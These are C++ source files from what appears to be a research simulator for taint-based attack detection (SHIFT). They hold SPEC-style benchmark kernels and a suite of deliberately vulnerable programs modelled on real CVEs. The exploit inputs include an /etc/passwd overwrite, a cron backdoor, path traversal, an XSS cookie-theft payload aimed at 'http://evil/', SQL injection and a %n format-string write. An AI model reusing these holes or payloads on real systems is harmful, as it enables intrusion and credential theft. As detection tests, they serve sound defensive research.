    while (static_cast<int>(out.size()) < target)
        out += kChunks[rng.range(6)];
    return out;
}

// ---------------------------------------------------------------------
// 175.vpr: simulated-annealing placement. Net endpoints come from the
// (tainted) netlist, so position lookups index with tainted cell ids.
// ---------------------------------------------------------------------

const char *kVprKernel = R"MC(
char text[32768];
int neta[2048];
int netb[2048];
int posx[512];
int posy[512];
int cell_at[1024];
int pos;

int read_int() {
    while (text[pos] == ' ' || text[pos] == '\n') pos++;
    int v = 0;
    while (text[pos] >= '0' && text[pos] <= '9') {
        v = v * 10 + (text[pos] - '0');
        pos++;
    }
    return v;
}

int net_cost(int i) {
    int a = neta[i];
    int b = netb[i];
    int dx = posx[a] - posx[b];
    int dy = posy[a] - posy[b];
    if (dx < 0) dx = 0 - dx;
    if (dy < 0) dy = 0 - dy;
    return dx + dy;
}

int main() {
    int fd = open("input.dat", 0);
    if (fd < 0) return 255;
    int n = read(fd, text, 32767);
    text[n] = 0;
    close(fd);
    pos = 0;
    int ncells = read_int();
    int nnets = read_int();
    long seed = read_int();
    int grid = 1;
    while (grid * grid < ncells) grid++;
    for (int c = 0; c < ncells; c++) {
        posx[c] = c % grid;
        posy[c] = c / grid;
        cell_at[posy[c] * grid + posx[c]] = c;
    }
    for (int i = 0; i < nnets; i++) {
        neta[i] = read_int() % ncells;
        netb[i] = read_int() % ncells;
    }
    long cost = 0;
    for (int i = 0; i < nnets; i++) cost += net_cost(i);
    // Annealing sweeps: swap random cell pairs, keep improvements
    // (plus a decaying threshold of uphill moves).
    int temp = grid;
    for (int sweep = 0; sweep < 5; sweep++) {
        for (int t = 0; t < ncells; t++) {
            seed = (seed * 1103515245 + 12345) & 0x7fffffff;
            int c1 = (int)(seed % ncells);
            seed = (seed * 1103515245 + 12345) & 0x7fffffff;
            int c2 = (int)(seed % ncells);
            if (c1 == c2) continue;
            long before = 0;
            for (int i = 0; i < nnets; i++) {
                if (neta[i] == c1 || netb[i] == c1
                    || neta[i] == c2 || netb[i] == c2) {
                    before += net_cost(i);
                }
            }
            int tx = posx[c1]; int ty = posy[c1];
            posx[c1] = posx[c2]; posy[c1] = posy[c2];
            posx[c2] = tx; posy[c2] = ty;
            long after = 0;
            for (int i = 0; i < nnets; i++) {
                if (neta[i] == c1 || netb[i] == c1
                    || neta[i] == c2 || netb[i] == c2) {
                    after += net_cost(i);
                }
            }
            if (after > before + temp) {
                // revert
                tx = posx[c1]; ty = posy[c1];
                posx[c1] = posx[c2]; posy[c1] = posy[c2];
                posx[c2] = tx; posy[c2] = ty;
            } else {
                cost += after - before;
            }
        }
        if (temp > 0) temp--;
    }
    long check = 0;
    for (int i = 0; i < nnets; i++) check += net_cost(i);
    return (int)(check & 127);
}
)MC";

std::string
vprInput(int scale)
{
    int ncells = 48 * scale;
    int nnets = 96 * scale;
    Rng rng(99);
    std::string out = std::to_string(ncells) + " " +
                      std::to_string(nnets) + " 31415\n";
    for (int i = 0; i < nnets; ++i) {
        out += std::to_string(rng.range(ncells)) + " " +
               std::to_string(rng.range(ncells)) + "\n";
    }
    return out;
}

// ---------------------------------------------------------------------
// 181.mcf: min-cost-flow core modelled by Bellman-Ford shortest paths
// over a (tainted) arc list: pure pointer/array chasing.
// ---------------------------------------------------------------------

const char *kMcfKernel = R"MC(
char text[65536];
int arc_src[4096];
int arc_dst[4096];
int arc_w[4096];
long dist[512];
int pos;

int read_int() {
    while (text[pos] == ' ' || text[pos] == '\n') pos++;
    int v = 0;
    while (text[pos] >= '0' && text[pos] <= '9') {
        v = v * 10 + (text[pos] - '0');
        pos++;
    }
    return v;
}

int relax_arcs(int m) {
    int changed = 0;
    for (int a = 0; a < m; a++) {
        int s = arc_src[a];
        int d = arc_dst[a];
        long nd = dist[s] + arc_w[a];
        if (dist[s] < 1000000000 && nd < dist[d]) {
            dist[d] = nd;
            changed = 1;
        }
    }
    return changed;
}

int main() {
    int fd = open("input.dat", 0);
    if (fd < 0) return 255;
    int n = read(fd, text, 65535);
    text[n] = 0;
    close(fd);
    pos = 0;
    int nodes = read_int();
    int m = read_int();
    for (int a = 0; a < m; a++) {
        arc_src[a] = read_int() % nodes;
        arc_dst[a] = read_int() % nodes;
        arc_w[a] = read_int() + 1;
    }
    for (int i = 0; i < nodes; i++) dist[i] = 1000000000;
    dist[0] = 0;
    int rounds = 0;
    while (relax_arcs(m) && rounds < nodes) rounds++;
    long sum = 0;
    for (int i = 0; i < nodes; i++) {
        if (dist[i] < 1000000000) sum += dist[i];
    }
    return (int)((sum + rounds) & 127);
}
)MC";

std::string
mcfInput(int scale)
{
    int nodes = 160 * scale;
    int arcs = 1400 * scale;
    Rng rng(555);
    std::string out =
        std::to_string(nodes) + " " + std::to_string(arcs) + "\n";
    for (int i = 0; i < arcs; ++i) {
        out += std::to_string(rng.range(nodes)) + " " +
               std::to_string(rng.range(nodes)) + " " +
               std::to_string(rng.range(90)) + "\n";
    }
    return out;
}

// ---------------------------------------------------------------------
// 197.parser: word tokenizer + open-addressing dictionary + linkage
// state machine. String processing with tainted hash probes.
// ---------------------------------------------------------------------

const char *kParserKernel = R"MC(
char text[32768];
char dict_keys[8192];
int dict_used[512];
char word[64];

int hash_word(char *w) {
    int h = 17;
    long i = 0;
    while (w[i]) {
        h = (h * 31 + w[i]) & 511;
        i++;
    }
    return h;
}

int dict_find(char *w, int insert) {
    int h = hash_word(w);
    int probes = 0;
    while (probes < 512) {
        long base = h * 16;
        if (dict_used[h] == 0) {
            if (insert) {
                dict_used[h] = 1;
                long t = 0;
                while (t < 15 && w[t]) {
                    dict_keys[base + t] = w[t];
                    t++;
                }
                dict_keys[base + t] = 0;
                return h;
            }
            return -1;
        }
        // Inline comparison: the probe offset is tainted, so the
        // bounds-checked accesses stay inside this (relaxed) function.
        long t = 0;
        while (dict_keys[base + t] && dict_keys[base + t] == w[t]) t++;
        if (dict_keys[base + t] == 0 && w[t] == 0) return h;
        h = (h + 1) & 511;
        probes++;
    }
    return -1;
}

int classify(char *w) {
    // crude part-of-speech: articles, verbs (ends in 's'), nouns
    if (strcmp(w, "the") == 0 || strcmp(w, "a") == 0) return 1;
    long n = strlen(w);
    if (n > 2 && w[n - 1] == 's') return 2;
    return 3;
}

int main() {
    int fd = open("input.dat", 0);
    if (fd < 0) return 255;
    int n = read(fd, text, 32767);
    text[n] = 0;
    close(fd);
    int known = 0;
    int newwords = 0;
    int links = 0;
    int state = 0;
    int i = 0;
    while (i < n) {
        while (i < n && (text[i] == ' ' || text[i] == '\n')) i++;
        int j = 0;
        while (i < n && text[i] != ' ' && text[i] != '\n' && j < 63) {
            word[j] = text[i];
            i++; j++;
        }
        if (j == 0) continue;
        word[j] = 0;
        int h = dict_find(word, 0);
        if (h >= 0) known++;
        else { dict_find(word, 1); newwords++; }
        // linkage grammar: article -> noun -> verb transitions count
        int cls = classify(word);
        if (state == 1 && cls == 3) links++;
        if (state == 3 && cls == 2) links++;
        state = cls;
    }
    return (known + newwords * 3 + links * 7) & 127;
}
)MC";

std::string
parserInput(int scale)
{
    static const char *kVocab[] = {
        "the", "a", "dog", "cat", "bird", "tree", "runs", "jumps",
        "sees", "house", "river", "stone", "walks", "sings", "cloud",
        "mountain", "codes", "parser", "links", "grammar",
    };
    Rng rng(2718);
    std::string out;
    for (int i = 0; i < 1400 * scale; ++i) {
        out += kVocab[rng.range(20)];
        out.push_back(rng.range(14) == 0 ? '\n' : ' ');
    }
    return out;
}

// ---------------------------------------------------------------------
// 300.twolf: standard-cell row placement — swap optimization over
// rows, minimizing row-length overflow plus net spans.
// ---------------------------------------------------------------------

const char *kTwolfKernel = R"MC(
char text[32768];
int width[512];
int row_of[512];
int slot_of[512];
int row_len[32];
int neta[1024];
int netb[1024];
int pos;

int read_int() {
    while (text[pos] == ' ' || text[pos] == '\n') pos++;
    int v = 0;
    while (text[pos] >= '0' && text[pos] <= '9') {
        v = v * 10 + (text[pos] - '0');
        pos++;
    }
    return v;
}

int span_cost(int nnets) {
    int total = 0;
    for (int i = 0; i < nnets; i++) {
        int dr = row_of[neta[i]] - row_of[netb[i]];
        int ds = slot_of[neta[i]] - slot_of[netb[i]];
        if (dr < 0) dr = 0 - dr;
        if (ds < 0) ds = 0 - ds;
        total += dr * 3 + ds;
    }
    return total;
}

int overflow_cost(int nrows, int cap) {
    int total = 0;
    for (int r = 0; r < nrows; r++) {
        if (row_len[r] > cap) total += (row_len[r] - cap) * 5;
    }
    return total;
}

int main() {
    int fd = open("input.dat", 0);
    if (fd < 0) return 255;
    int n = read(fd, text, 32767);
    text[n] = 0;
    close(fd);
    pos = 0;
    int ncells = read_int();
    int nnets = read_int();
    long seed = read_int();
    int nrows = 8;
    int percell = ncells / nrows + 1;
    for (int c = 0; c < ncells; c++) {
        width[c] = read_int() + 1;
        row_of[c] = c / percell;
        slot_of[c] = c % percell;
        row_len[row_of[c]] += width[c];
    }
    for (int i = 0; i < nnets; i++) {
        neta[i] = read_int() % ncells;
        netb[i] = read_int() % ncells;
    }
    int cap = 0;
    for (int c = 0; c < ncells; c++) cap += width[c];
    cap = cap / nrows + 2;
    int cost = span_cost(nnets) + overflow_cost(nrows, cap);
    for (int pass = 0; pass < 40; pass++) {
        seed = (seed * 1103515245 + 12345) & 0x7fffffff;
        int c1 = (int)(seed % ncells);
        seed = (seed * 1103515245 + 12345) & 0x7fffffff;
        int c2 = (int)(seed % ncells);
        if (c1 == c2) continue;
        // swap rows/slots of c1, c2
        int r1 = row_of[c1]; int s1 = slot_of[c1];
        row_of[c1] = row_of[c2]; slot_of[c1] = slot_of[c2];
        row_of[c2] = r1; slot_of[c2] = s1;
        row_len[r1] += width[c2] - width[c1];
        row_len[row_of[c1]] += width[c1] - width[c2];
        int next = span_cost(nnets) + overflow_cost(nrows, cap);
        if (next > cost) {
            int r2 = row_of[c1]; int s2 = slot_of[c1];
            row_of[c1] = row_of[c2]; slot_of[c1] = slot_of[c2];
            row_of[c2] = r2; slot_of[c2] = s2;
            row_len[r1] += width[c1] - width[c2];
            row_len[row_of[c2]] += width[c2] - width[c1];
        } else {
            cost = next;
        }
    }
    return (span_cost(nnets) + cost) & 127;
}
)MC";

std::string
twolfInput(int scale)
{
    int ncells = 120 * scale;
    int nnets = 520 * scale;
    Rng rng(31337);
    std::string out = std::to_string(ncells) + " " +
                      std::to_string(nnets) + " 8675309\n";
    for (int c = 0; c < ncells; ++c)
        out += std::to_string(rng.range(9)) + "\n";
    for (int i = 0; i < nnets; ++i) {
        out += std::to_string(rng.range(ncells)) + " " +
               std::to_string(rng.range(ncells)) + "\n";
    }
    return out;
}

std::vector<SpecKernel>
buildKernels()
{
    std::vector<SpecKernel> kernels;

    kernels.push_back({"164.gzip", "gzip", kGzipKernel,
                       {"compress", "decompress"},
                       {"compress"},
                       gzipInput, 1});
    kernels.push_back({"176.gcc", "gcc", kGccKernel,
                       {"parse_factor"},
                       {"main"},
                       gccInput, 1});
    kernels.push_back({"186.crafty", "crafty", kCraftyKernel,
                       {},
                       {},
                       craftyInput, 1});
    kernels.push_back({"256.bzip2", "bzip2", kBzip2Kernel,
                       {"do_ibwt", "do_unmtf"},
                       {"do_ibwt"},
                       bzip2Input, 1});
    kernels.push_back({"175.vpr", "vpr", kVprKernel,
                       {"net_cost", "main"},
                       {"main"},
                       vprInput, 1});
    kernels.push_back({"181.mcf", "mcf", kMcfKernel,
                       {"relax_arcs"},
                       {"relax_arcs"},
                       mcfInput, 1});
    kernels.push_back({"197.parser", "parser", kParserKernel,
                       {"dict_find"},
                       {"dict_find"},
                       parserInput, 1});
    kernels.push_back({"300.twolf", "twolf", kTwolfKernel,
                       {"span_cost", "main"},
                       {"main"},
                       twolfInput, 1});
    return kernels;
}

} // namespace

const std::vector<SpecKernel> &
specKernels()
{
    static const std::vector<SpecKernel> kernels = buildKernels();
    return kernels;
}

const SpecKernel &
specKernel(const std::string &shortName)
{
    for (const SpecKernel &k : specKernels()) {
        if (k.shortName == shortName)
            return k;
    }
    SHIFT_FATAL("no SPEC kernel named '%s'", shortName.c_str());
}

SpecRun
runSpecKernel(const SpecKernel &kernel, const SpecRunConfig &config)
{
    SessionOptions options;
    options.mode = config.mode;
    options.policy.granularity = config.granularity;
    options.policy.taintFile = config.taintInput;
    options.features = config.features;
    options.engine = config.engine;
    options.instr.relaxLoadFunctions = kernel.relaxLoadFunctions;
    options.instr.relaxStoreFunctions = kernel.relaxStoreFunctions;
    options.optimize = config.optimize;
    options.fastPath = config.fastPath;
    options.async = config.async;
    options.jit = config.jit;
    options.jitThreshold = config.jitThreshold;
    options.jitBackground = config.jitBackground;
    options.jitLazy = config.jitLazy;
    options.profile = config.profile;

    Session session(kernel.source, options);
    int scale = config.scale > 0 ? config.scale : kernel.defaultScale;
    session.os().addFile("input.dat", kernel.makeInput(scale));

    SpecRun run;
    run.instrStats = session.instrStats();
    run.optStats = session.optStats();
    run.staticSize = session.program().staticInstrCount();
    auto start = std::chrono::steady_clock::now();
    run.result = session.run();
    run.runSeconds = std::chrono::duration<double>(
                         std::chrono::steady_clock::now() - start)
                         .count();
    return run;
}

} // namespace shift::workloads
