#include "attacks.hh"

#include "support/logging.hh"

namespace shift::workloads
{

namespace
{

PolicyConfig
policyWith(std::function<void(PolicyConfig &)> tweak)
{
    PolicyConfig policy; // low-level L1-L3 default on
    tweak(policy);
    return policy;
}

// ---------------------------------------------------------------------
// 1/2. Directory traversal in archive extractors (GNU Tar 1.4,
// CVE-2001-1267; GNU Gzip 1.2.4 -N, CVE-2005-1228). The archive member
// name comes from the (tainted) archive file and is passed to open()
// for writing; policy H1 rejects tainted absolute paths.
// ---------------------------------------------------------------------

const char *kTarSource = R"MC(
char arc[65536];
char name[256];

int main() {
    int fd = open("archive.tar", 0);
    if (fd < 0) return 1;
    int len = read(fd, arc, 65535);
    close(fd);
    int pos = 0;
    int extracted = 0;
    while (pos < len) {
        // member name line
        int i = 0;
        while (pos < len && arc[pos] != '\n') {
            name[i] = arc[pos];
            i++; pos++;
        }
        name[i] = 0;
        pos++;
        if (i == 0) break;
        // size line
        char numbuf[16];
        int j = 0;
        while (pos < len && arc[pos] != '\n') {
            numbuf[j] = arc[pos];
            j++; pos++;
        }
        numbuf[j] = 0;
        pos++;
        int size = atoi(numbuf);
        // no validation of `name`: the vulnerability
        int out = open(name, 1);
        if (out < 0) return 2;
        write(out, arc + pos, size);
        close(out);
        pos = pos + size;
        extracted++;
    }
    return 100 + extracted;
}
)MC";

const char *kGzipSource = R"MC(
char gz[65536];
char orig_name[256];

int main() {
    int fd = open("data.gz", 0);
    if (fd < 0) return 1;
    int len = read(fd, gz, 65535);
    close(fd);
    if (len < 3 || gz[0] != 'G' || gz[1] != 'Z') return 2;
    // gzip -N: restore the original file name stored in the header.
    int p = 2;
    int i = 0;
    while (p < len && gz[p] != 0) {
        orig_name[i] = gz[p];
        i++; p++;
    }
    orig_name[i] = 0;
    p++;
    int out = open(orig_name, 1);
    if (out < 0) return 3;
    write(out, gz + p, len - p);
    close(out);
    return 100;
}
)MC";

// ---------------------------------------------------------------------
// 3. Qwikiwiki 1.4.1 directory traversal (CVE-2006-0983 family). The
// requested page name is spliced into a path under the document root;
// policy H2 rejects tainted "..{/}" escapes.
// ---------------------------------------------------------------------

const char *kWikiSource = R"MC(
char req[1024];
char page[256];
char path[512];
char body[4096];
char resp[8192];

int main() {
    int served = 0;
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        // parse "GET /wiki?page=NAME "
        char *q = strstr(req, "page=");
        if (q) {
            int i = 0;
            q = q + 5;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                page[i] = q[i];
                i++;
            }
            page[i] = 0;
            strcpy(path, "/www/pages/");
            strcat(path, page);
            strcat(path, ".txt");
            int fd = open(path, 0);
            if (fd >= 0) {
                int m = read(fd, body, 4095);
                body[m] = 0;
                close(fd);
                strcpy(resp, "HTTP/1.0 200 OK\r\n\r\n");
                strcat(resp, body);
                send(conn, resp, strlen(resp));
                served++;
            } else {
                strcpy(resp, "HTTP/1.0 404 Not Found\r\n\r\n");
                send(conn, resp, strlen(resp));
            }
        }
        close(conn);
        conn = accept();
    }
    return 100 + served;
}
)MC";

// ---------------------------------------------------------------------
// 4/5/6. Cross-site scripting: Scry 1.1, php-stats 0.1.9.1b,
// phpsysinfo 2.3. Each echoes a request parameter into HTML without
// sanitization; H5 rejects tainted <script> tags reaching the client.
// ---------------------------------------------------------------------

const char *kScrySource = R"MC(
char req[1024];
char album[256];
char resp[4096];

int main() {
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        char *q = strstr(req, "album=");
        if (q) {
            int i = 0;
            q = q + 6;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                album[i] = q[i];
                i++;
            }
            album[i] = 0;
            sprintf(resp,
                "HTTP/1.0 200 OK\r\n\r\n<html><h1>Album: %s</h1></html>",
                album);
            send(conn, resp, strlen(resp));
        }
        close(conn);
        conn = accept();
    }
    return 100;
}
)MC";

const char *kPhpStatsSource = R"MC(
char req[1024];
char term[256];
char resp[4096];

int main() {
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        char *q = strstr(req, "search=");
        if (q) {
            int i = 0;
            q = q + 7;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                term[i] = q[i];
                i++;
            }
            term[i] = 0;
            strcpy(resp, "HTTP/1.0 200 OK\r\n\r\n");
            strcat(resp, "<html><body>Results for ");
            strcat(resp, term);
            strcat(resp, ": 0 hits</body></html>");
            send(conn, resp, strlen(resp));
        }
        close(conn);
        conn = accept();
    }
    return 100;
}
)MC";

const char *kPhpSysinfoSource = R"MC(
char req[1024];
char lang[256];
char tmpl[2048];
char resp[4096];

int main() {
    // Template comes from the server's own (clean) filesystem.
    int fd = open("/www/sysinfo.tmpl", 0);
    if (fd < 0) return 1;
    int t = read(fd, tmpl, 2047);
    tmpl[t] = 0;
    close(fd);

    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        char *q = strstr(req, "lang=");
        if (q) {
            int i = 0;
            q = q + 5;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                lang[i] = q[i];
                i++;
            }
            lang[i] = 0;
            // Substitute @LANG@ in the template with the raw parameter.
            char *slot = strstr(tmpl, "@LANG@");
            strcpy(resp, "HTTP/1.0 200 OK\r\n\r\n");
            if (slot) {
                long prefix = slot - tmpl;
                long base = strlen(resp);
                memcpy(resp + base, tmpl, prefix);
                resp[base + prefix] = 0;
                strcat(resp, lang);
                strcat(resp, slot + 6);
            } else {
                strcat(resp, tmpl);
            }
            send(conn, resp, strlen(resp));
        }
        close(conn);
        conn = accept();
    }
    return 100;
}
)MC";

// ---------------------------------------------------------------------
// 7. phpMyFAQ 1.6.8 SQL injection (CVE-2007-2284 family): the id
// parameter is concatenated into a query; H3 rejects tainted SQL
// metacharacters.
// ---------------------------------------------------------------------

const char *kPhpMyFaqSource = R"MC(
char req[1024];
char id[256];
char query[1024];
char resp[1024];

int main() {
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        char *q = strstr(req, "id=");
        if (q) {
            int i = 0;
            q = q + 3;
            while (q[i] && q[i] != ' ' && q[i] != '&') {
                id[i] = q[i];
                i++;
            }
            id[i] = 0;
            strcpy(query, "SELECT answer FROM faq WHERE id = '");
            strcat(query, id);
            strcat(query, "'");
            if (sql_exec(query) < 0) {
                close(conn);
                conn = accept();
                continue;
            }
            strcpy(resp, "HTTP/1.0 200 OK\r\n\r\nanswer");
            send(conn, resp, strlen(resp));
        }
        close(conn);
        conn = accept();
    }
    return 100;
}
)MC";

// ---------------------------------------------------------------------
// 8. Bftpd <= 0.96 format-string attack: user input reaches a printf-
// family format string; a "%n" conversion writes through an attacker-
// supplied pointer (the GOT entry of system() in the real exploit).
// The model reproduces the exact data flow: the store address is
// parsed out of tainted input, so policy L2 fires on the write.
// ---------------------------------------------------------------------

const char *kBftpdSource = R"MC(
char req[1024];

// Model of vsnprintf %n semantics: write the running count through a
// pointer taken from the argument area, which the exploit overlaps
// with attacker-controlled bytes.
int vlog(char *fmt) {
    long count = 0;
    long i = 0;
    while (fmt[i]) {
        if (fmt[i] == '%' && fmt[i + 1] == 'n') {
            long target = atoi(fmt + i + 2);
            long *p = (long*)target;
            *p = count;             // tainted address -> L2
            return 1;
        }
        count++;
        i++;
    }
    return 0;
}

int main() {
    int handled = 0;
    int conn = accept();
    while (conn >= 0) {
        int n = recv(conn, req, 1023);
        req[n] = 0;
        // The vulnerability: user-controlled text used as the format.
        vlog(req);
        handled++;
        close(conn);
        conn = accept();
    }
    return 100 + handled;
}
)MC";

std::vector<AttackScenario>
buildScenarios()
{
    std::vector<AttackScenario> out;

    {
        AttackScenario s;
        s.name = "gnu-tar";
        s.cve = "CVE-2001-1267";
        s.program = "GNU Tar (1.4)";
        s.language = "C";
        s.attackType = "Directory Traversal";
        s.policies = "H1 + Low level policies";
        s.expectedPolicy = "H1";
        s.source = kTarSource;
        s.policy = policyWith([](PolicyConfig &p) { p.h1 = true; });
        // The extractor indexes the archive with offsets derived from
        // tainted size fields; an application-specific rule (paper
        // section 3.3.2) relaxes loads in main().
        s.relaxLoadFunctions = {"main"};
        s.setupBenign = [](Session &session) {
            session.os().addFile(
                "archive.tar", std::string("docs/readme.txt\n6\nhello\n"
                                           "notes.txt\n4\nabc\n\n"));
        };
        s.setupExploit = [](Session &session) {
            session.os().addFile(
                "archive.tar",
                std::string("/etc/passwd\n18\nroot::0:0:evil:/:\n\n"));
        };
        out.push_back(std::move(s));
    }

    {
        AttackScenario s;
        s.name = "gnu-gzip";
        s.cve = "CVE-2005-1228";
        s.program = "GNU Gzip (1.2.4)";
        s.language = "C";
        s.attackType = "Directory Traversal";
        s.policies = "H1 + Low level policies";
        s.expectedPolicy = "H1";
        s.source = kGzipSource;
        s.policy = policyWith([](PolicyConfig &p) { p.h1 = true; });
        s.setupBenign = [](Session &session) {
            std::string gz = "GZ";
            gz += "report.txt";
            gz.push_back('\0');
            gz += "contents of the report";
            session.os().addFile("data.gz", gz);
        };
        s.setupExploit = [](Session &session) {
            std::string gz = "GZ";
            gz += "/etc/cron.d/backdoor";
            gz.push_back('\0');
            gz += "* * * * * root /tmp/evil\n";
            session.os().addFile("data.gz", gz);
        };
        out.push_back(std::move(s));
    }

    {
        AttackScenario s;
        s.name = "qwikiwiki";
        s.cve = "CVE-2006-0983";
        s.program = "Qwikiwiki (1.4.1)";
        s.language = "PHP";
        s.attackType = "Directory Traversal";
        s.policies = "H2 + Low level policies";
        s.expectedPolicy = "H2";
        s.source = kWikiSource;
        s.policy = policyWith([](PolicyConfig &p) {
            p.h2 = true;
            p.taintFile = false; // the wiki's own pages are trusted
            p.docRoot = "/www";
        });
        auto addPages = [](Session &session) {
            session.os().addFile("/www/pages/home.txt",
                                 "Welcome to the wiki");
            session.os().addFile("/etc/passwd", "root:x:0:0::/:/bin/sh");
        };
        s.setupBenign = [addPages](Session &session) {
            addPages(session);
            session.os().queueConnection(
                "GET /wiki?page=home HTTP/1.0\r\n\r\n");
        };
        s.setupExploit = [addPages](Session &session) {
            addPages(session);
            session.os().queueConnection(
                "GET /wiki?page=../../../etc/passwd%00 HTTP/1.0\r\n\r\n");
        };
        out.push_back(std::move(s));
    }

    auto makeXss = [&](const char *name, const char *cve,
                       const char *program, const char *source,
                       const char *param,
                       std::function<void(Session &)> extra) {
        AttackScenario s;
        s.name = name;
        s.cve = cve;
        s.program = program;
        s.language = "PHP";
        s.attackType = "Cross Site Scripting";
        s.policies = "H5 + Low level policies";
        s.expectedPolicy = "H5";
        s.source = source;
        s.policy = policyWith([](PolicyConfig &p) {
            p.h5 = true;
            p.taintFile = false;
        });
        std::string benign = std::string("GET /page?") + param +
                             "=holiday HTTP/1.0\r\n\r\n";
        std::string exploit =
            std::string("GET /page?") + param +
            "=<script>document.location='http://evil/'+document.cookie"
            "</script> HTTP/1.0\r\n\r\n";
        s.setupBenign = [extra, benign](Session &session) {
            if (extra)
                extra(session);
            session.os().queueConnection(benign);
        };
        s.setupExploit = [extra, exploit](Session &session) {
            if (extra)
                extra(session);
            session.os().queueConnection(exploit);
        };
        out.push_back(std::move(s));
    };

    makeXss("scry", "CVE-2007-1584", "Scry (1.1)", kScrySource,
            "album", nullptr);
    makeXss("php-stats", "CVE-2007-1585", "php-stats (0.1.9.1b)",
            kPhpStatsSource, "search", nullptr);
    makeXss("phpsysinfo", "CVE-2005-0870", "phpSysInfo (2.3)",
            kPhpSysinfoSource, "lang", [](Session &session) {
                session.os().addFile(
                    "/www/sysinfo.tmpl",
                    "<html><body>System info (@LANG@)</body></html>");
            });

    {
        AttackScenario s;
        s.name = "phpmyfaq";
        s.cve = "CVE-2007-2284";
        s.program = "phpMyFAQ (1.6.8)";
        s.language = "PHP";
        s.attackType = "SQL Command Injection";
        s.policies = "H3 + Low level policies";
        s.expectedPolicy = "H3";
        s.source = kPhpMyFaqSource;
        s.policy = policyWith([](PolicyConfig &p) {
            p.h3 = true;
            p.taintFile = false;
        });
        s.setupBenign = [](Session &session) {
            session.os().queueConnection(
                "GET /faq?id=42 HTTP/1.0\r\n\r\n");
        };
        s.setupExploit = [](Session &session) {
            session.os().queueConnection(
                "GET /faq?id=0'+OR+'1'='1 HTTP/1.0\r\n\r\n");
        };
        out.push_back(std::move(s));
    }

    {
        AttackScenario s;
        s.name = "bftpd";
        s.cve = "N/A";
        s.program = "Bftpd (0.96 prior)";
        s.language = "C";
        s.attackType = "Format string attack";
        s.policies = "L2";
        s.expectedPolicy = "L2";
        s.source = kBftpdSource;
        s.policy = policyWith([](PolicyConfig &) {});
        s.setupBenign = [](Session &session) {
            session.os().queueConnection("USER alice\r\n");
            session.os().queueConnection("PASS hunter2\r\n");
        };
        s.setupExploit = [](Session &session) {
            // "%n" plus the (decimal) GOT address of system() — here
            // the program's first global, which is what a GOT slot is:
            // a writable word at a fixed data address.
            uint64_t got = session.machine().globalAddr("req");
            session.os().queueConnection(
                "USER %n" + std::to_string(got) + "AAAA\r\n");
        };
        out.push_back(std::move(s));
    }

    return out;
}

} // namespace

const std::vector<AttackScenario> &
attackScenarios()
{
    static const std::vector<AttackScenario> scenarios = buildScenarios();
    return scenarios;
}

AttackRun
runAttackScenario(const AttackScenario &scenario, bool exploit,
                  Granularity granularity, ExecEngine engine,
                  OptimizerOptions optimize, bool fastPath,
                  dift::AsyncTaintOptions async, bool jit,
                  uint32_t jitThreshold)
{
    SessionOptions options;
    options.mode = TrackingMode::Shift;
    options.policy = scenario.policy;
    options.policy.granularity = granularity;
    options.engine = engine;
    options.instr.relaxLoadFunctions = scenario.relaxLoadFunctions;
    options.optimize = optimize;
    options.fastPath = fastPath;
    options.async = async;
    options.jit = jit;
    options.jitThreshold = jitThreshold;

    Session session(scenario.source, options);
    if (exploit)
        scenario.setupExploit(session);
    else
        scenario.setupBenign(session);

    AttackRun run;
    run.result = session.run();
    if (exploit) {
        run.detected =
            run.result.killedByPolicy && !run.result.alerts.empty() &&
            run.result.alerts.back().policy == scenario.expectedPolicy;
    } else {
        run.falsePositive = !run.result.alerts.empty() ||
                            run.result.killedByPolicy ||
                            bool(run.result.fault);
    }
    return run;
}

const AttackScenario &
attackScenario(const std::string &name)
{
    for (const AttackScenario &s : attackScenarios()) {
        if (s.name == name)
            return s;
    }
    SHIFT_FATAL("no attack scenario named '%s'", name.c_str());
}

} // namespace shift::workloads
