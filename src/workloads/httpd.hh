/**
 * @file
 * The Apache-like web-server workload (paper figure 6).
 *
 * A static-file HTTP server written in MiniC runs on the simulated OS;
 * the harness queues `ab`-style requests for a file of a given size
 * and measures per-request latency and aggregate throughput in
 * simulated cycles. I/O costs are scaled to server-realistic values so
 * the user-mode compute the SHIFT instrumentation inflates is a small
 * slice of each request — which is the paper's whole point: ~1%
 * overhead for I/O-bound servers, largest for the smallest files.
 */

#ifndef SHIFT_WORKLOADS_HTTPD_HH
#define SHIFT_WORKLOADS_HTTPD_HH

#include <cstdint>
#include <string>

#include "runtime/session.hh"

namespace shift::workloads
{

/** Configuration of one server measurement. */
struct HttpdConfig
{
    TrackingMode mode = TrackingMode::None;
    Granularity granularity = Granularity::Byte;
    CpuFeatures features;
    ExecEngine engine = ExecEngine::Predecoded;
    uint64_t fileSize = 4 * 1024;  ///< served file size in bytes
    int requests = 50;             ///< number of requests to serve
};

/** Measured result. */
struct HttpdRun
{
    RunResult result;
    uint64_t requestsServed = 0;
    uint64_t totalCycles = 0;
    double latencyCycles = 0;      ///< cycles per request
    double throughput = 0;         ///< requests per giga-cycle
    bool responsesOk = false;      ///< every response carried the file
    /** Host seconds inside Machine::run() alone (see SpecRun). */
    double runSeconds = 0;
};

/** The MiniC source of the server (exposed for tests/examples). */
extern const char *const kHttpdSource;

/** Run the server against `config.requests` queued connections. */
HttpdRun runHttpd(const HttpdConfig &config);

} // namespace shift::workloads

#endif // SHIFT_WORKLOADS_HTTPD_HH
