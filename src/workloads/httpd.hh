/**
 * @file
 * The Apache-like web-server workload (paper figure 6).
 *
 * A static-file HTTP server written in MiniC runs on the simulated OS;
 * the harness queues `ab`-style requests for a file of a given size
 * and measures per-request latency and aggregate throughput in
 * simulated cycles. I/O costs are scaled to server-realistic values so
 * the user-mode compute the SHIFT instrumentation inflates is a small
 * slice of each request — which is the paper's whole point: ~1%
 * overhead for I/O-bound servers, largest for the smallest files.
 */

#ifndef SHIFT_WORKLOADS_HTTPD_HH
#define SHIFT_WORKLOADS_HTTPD_HH

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "runtime/session.hh"
#include "runtime/session_template.hh"
#include "svc/fleet.hh"

